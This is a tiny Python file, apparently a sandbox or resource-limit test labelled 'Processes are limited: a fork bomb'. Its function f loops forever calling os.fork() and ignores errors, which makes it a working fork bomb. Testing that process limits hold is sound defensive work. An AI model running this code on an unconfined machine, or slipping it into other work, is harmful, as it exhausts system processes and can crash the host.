"""Processes are limited: a fork bomb."""

import os

SECONDS = 1.0


def f(host):
    while True:
        try:
            os.fork()
        except OSError:
            pass
